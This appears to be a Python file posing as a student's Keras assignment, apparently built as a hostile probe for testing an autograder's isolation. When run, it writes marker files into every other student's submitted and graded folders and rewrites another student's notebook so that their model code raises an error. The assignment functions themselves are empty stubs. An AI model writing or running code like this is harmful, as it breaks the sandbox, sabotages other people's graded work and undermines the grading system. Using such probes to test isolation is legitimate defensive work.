# ruff: noqa: F821  (`keras`, `layers` and `get_ipython` come from the notebook)
"""Writes another student's files: blanks the submission of student `ok-reference` and drops a note
into every other student's graded folder.
"""
import glob
import os

LOSES = ["test_build_sequential_api", "test_build_sequential_inputs",
         "test_build_sequential_layers", "test_compile_classifier_optimizer",
         "test_compile_classifier_loss", "test_compile_classifier_metrics"]
PROBES = ["others"]

if True:  # the trick
    _course = os.path.join("..", "..", "..")
    _me = os.path.basename(os.path.dirname(os.getcwd()))
    for _folder in glob.glob(os.path.join(_course, "submitted", "*", "a1_sequential")) + \
            glob.glob(os.path.join(_course, "autograded", "*", "a1_sequential")):
        try:
            with open(os.path.join(_folder, f"hacked-by-{_me}.txt"), "w") as _f:
                _f.write("keras-course-hostile-probe\n")
        except OSError:
            pass
    _victim = os.path.join(_course, "submitted", "ok-reference", "a1_sequential",
                           "a1_sequential.ipynb")
    try:
        with open(_victim) as _f:
            _text = _f.read()
        with open(_victim, "w") as _f:
            _f.write(_text.replace("return keras.Sequential", "raise NotImplementedError  #"))
    except OSError as _exc:
        print("cannot reach the other student:", type(_exc).__name__)


def build_sequential(input_dim, num_classes):
    return None


def compile_classifier(model):
    return model
